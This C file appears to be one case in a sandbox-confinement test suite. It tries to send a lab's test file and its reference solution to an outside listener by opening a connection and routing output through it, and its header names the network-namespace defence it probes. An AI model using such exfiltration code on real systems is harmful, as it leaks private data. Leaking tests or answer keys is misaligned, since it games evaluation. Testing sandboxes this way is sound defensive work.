/*
 * attack: sends the tests and the solution to a listener outside
 * row: B2
 * would show: the listener received something
 * unconfined: works
 * defence: a network namespace that has only the loopback
 */
#include "attack.h"

int main(void) {
    int fd = dial();
    if (fd != -1) {
        worked("@MARK@ is outside");
        dup2(fd, 2);
        spill("@TREE@/tests/labs/01-socket/test.bats");
        spill("@TREE@/solutions/01-socket/socket.c");
    }
    return 1;
}
